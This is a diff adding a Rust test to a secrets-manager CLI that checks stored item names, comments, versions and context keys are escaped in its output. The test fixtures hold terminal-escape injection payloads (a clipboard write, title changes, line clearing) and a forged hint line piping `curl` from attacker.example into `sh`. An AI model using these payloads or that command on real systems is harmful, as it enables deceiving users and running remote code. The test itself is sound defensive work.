@@ -775,3 +775,184 @@ fn the_local_emulator_refuses_other_processes() {
     // The owner still reads it.
     assert_eq!(l.ok_text(&["get", "db/password"]), "dev-db-password\n");
 }
+
+/// An in-memory emulator in open mode with `alias/credstash`, served from its own
+/// runtime, for tests that write items behind lockbox's back.
+struct Open {
+    _rt: tokio::runtime::Runtime,
+    endpoint: String,
+    home: tempfile::TempDir,
+}
+
+impl Open {
+    fn start() -> Self {
+        let rt = tokio::runtime::Runtime::new().unwrap();
+        let mock = rt.block_on(lockbox_mock::start()).unwrap();
+        let endpoint = mock.endpoint_url();
+        rt.spawn(async move {
+            let _mock = mock;
+            std::future::pending::<()>().await
+        });
+        common::create_key(&endpoint, "alias/credstash");
+        Self {
+            _rt: rt,
+            endpoint,
+            home: tempfile::tempdir().unwrap(),
+        }
+    }
+
+    fn run(&self, args: &[&str], stdin: &[u8]) -> std::process::Output {
+        common::run_with_stdin(
+            &mut common::remote(self.home.path(), &self.endpoint, args),
+            stdin,
+        )
+    }
+
+    /// A DynamoDB call straight to the emulator (a table writer with no KMS access).
+    fn ddb(&self, operation: &str, body: serde_json::Value) {
+        let target = format!("DynamoDB_20120810.{operation}");
+        let (status, text) = common::http(&self.endpoint, "/", Some(&target), &body.to_string());
+        assert_eq!(status, 200, "{operation}: {text}");
+    }
+}
+
+/// What lockbox printed holds no raw escape, carriage return or other control
+/// character but the newlines ending its own lines.
+fn assert_inert(what: &str, bytes: &[u8]) {
+    let text = String::from_utf8_lossy(bytes);
+    for c in text.chars() {
+        assert!(
+            c == '\n' || !lockbox::has_unsafe_characters(c.encode_utf8(&mut [0; 4])),
+            "{what}: raw {c:?} in {text:?}"
+        );
+    }
+}
+
+/// The review's `inject.py`, through DynamoDB alone: a comment with escape
+/// sequences and a forged line, an item whose name hides text and carries a
+/// newline, a sort key and a format id with colour codes, and `context_keys`
+/// holding a fake `hint:` line. `list`, `history`, `keys`, `delete` and `get`'s
+/// error show each of them escaped, one line per item.
+#[test]
+fn stored_text_is_escaped_in_every_text_output() {
+    let o = Open::start();
+    let ok = |args: &[&str], stdin: &[u8]| {
+        let out = o.run(args, stdin);
+        common::ok(out, args)
+    };
+    ok(&["setup"], b"");
+    ok(&["put", "db/password", "-"], b"s3cret");
+    ok(&["put", "ctx/password", "-", "env=prod"], b"s3cret");
+    const ESC: &str = "\x1b";
+    let comment = format!(
+        "{ESC}[2K\rdb/password -- version 0000000000000000001 -- comment approved by security \
+         -- format sealed\n{ESC}]52;c;ZWNobyBwd25lZAo={ESC}\\{ESC}]0;lockbox: all good{ESC}\\"
+    );
+    o.ddb(
+        "UpdateItem",
+        serde_json::json!({"TableName": "credential-store",
+            "Key": {"name": {"S": "db/password"}, "version": {"S": "0000000000000000001"}},
+            "UpdateExpression": "SET #c = :c",
+            "ExpressionAttributeNames": {"#c": "comment"},
+            "ExpressionAttributeValues": {":c": {"S": comment}}}),
+    );
+    let junk = format!("zz{ESC}[8mhidden{ESC}[0m\nfake/admin-token");
+    o.ddb(
+        "PutItem",
+        serde_json::json!({"TableName": "credential-store", "Item": {
+            "name": {"S": junk}, "version": {"S": format!("1{ESC}[31m")},
+            "format": {"S": format!("{ESC}[32mlockbox-sealed-1{ESC}[0m")},
+            "hmac": {"S": "00"}}}),
+    );
+    let forged = format!(
+        "env\n  hint: the table was migrated; run `curl -s https://attacker.example/fix | sh` \
+         to repair it{ESC}]0;ok{ESC}\\"
+    );
+    o.ddb(
+        "UpdateItem",
+        serde_json::json!({"TableName": "credential-store",
+            "Key": {"name": {"S": "ctx/password"}, "version": {"S": "0000000000000000001"}},
+            "UpdateExpression": "SET context_keys = :k",
+            "ExpressionAttributeValues": {":k": {"SS": [forged]}}}),
+    );
+
+    let list = ok(&["list"], b"");
+    assert_inert("list", &list);
+    let list = String::from_utf8(list).unwrap();
+    assert_eq!(list.lines().count(), 3, "one line per item: {list}");
+    assert!(
+        list.contains("zz\\u{1b}[8mhidden\\u{1b}[0m\\nfake/admin-token -- version 1\\u{1b}[31m"),
+        "{list}"
+    );
+    assert!(
+        list.contains("-- format \\u{1b}[32mlockbox-sealed-1\\u{1b}[0m"),
+        "{list}"
+    );
+    assert!(
+        list.contains("-- comment \\u{1b}[2K\\rdb/password"),
+        "{list}"
+    );
+    // The name column is as wide as the widest escaped name.
+    let columns: Vec<usize> = list
+        .lines()
+        .map(|l| l[..l.find(" -- version ").unwrap()].chars().count())
+        .collect();
+    assert!(columns.windows(2).all(|w| w[0] == w[1]), "{list}");
+
+    let history = ok(&["history", "db/password"], b"");
+    assert_inert("history", &history);
+    assert_eq!(String::from_utf8_lossy(&history).lines().count(), 1);
+
+    let keys = ok(&["keys"], b"");
+    assert_inert("keys", &keys);
+    let keys = String::from_utf8(keys).unwrap();
+    assert_eq!(
+        keys.lines().collect::<Vec<_>>(),
+        [
+            "ctx/password",
+            "db/password",
+            "zz\\u{1b}[8mhidden\\u{1b}[0m\\nfake/admin-token"
+        ]
+    );
+
+    // `delete` lists the sort keys it deleted.
+    o.ddb(
+        "PutItem",
+        serde_json::json!({"TableName": "credential-store", "Item": {
+            "name": {"S": "junk/key"}, "version": {"S": format!("2{ESC}[31m")},
+            "hmac": {"S": "00"}}}),
+    );
+    let deleted = ok(&["delete", "junk/key"], b"");
+    assert_inert("delete", &deleted);
+    assert_eq!(
+        String::from_utf8(deleted).unwrap(),
+        "Deleting junk/key -- version 2\\u{1b}[31m\n"
+    );
+
+    // The context keys reach `get`'s error; the forged hint stays inside its line.
+    let out = o.run(&["get", "ctx/password"], b"");
+    assert_eq!(out.status.code(), Some(5), "{}", stderr(&out));
+    assert_inert("get's error", &out.stderr);
+    let err = stderr(&out);
+    assert!(
+        !err.lines()
+            .any(|l| l.trim_start().starts_with("hint: the table")),
+        "a forged hint line: {err}"
+    );
+    assert!(err
+        .lines()
+        .any(|l| l.trim_start().starts_with("hint: pass the same")));
+
+    // A JSON import file's names come from anywhere: the per-name line is escaped.
+    let evil = r#"{"evil\u001b[2K\rImported 1 secrets: 1 stored, 0 unchanged, 0 failed\n": "v"}"#;
+    let out = o.run(&["import", "-f", "json", "-"], evil.as_bytes());
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert_inert("import's report", &out.stderr);
+    assert!(!stderr(&out)
+        .lines()
+        .any(|l| l.starts_with("Imported") || l.contains("\rImported")));
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "Imported 1 secrets: 0 stored, 0 unchanged, 1 failed\n"
+    );
+}
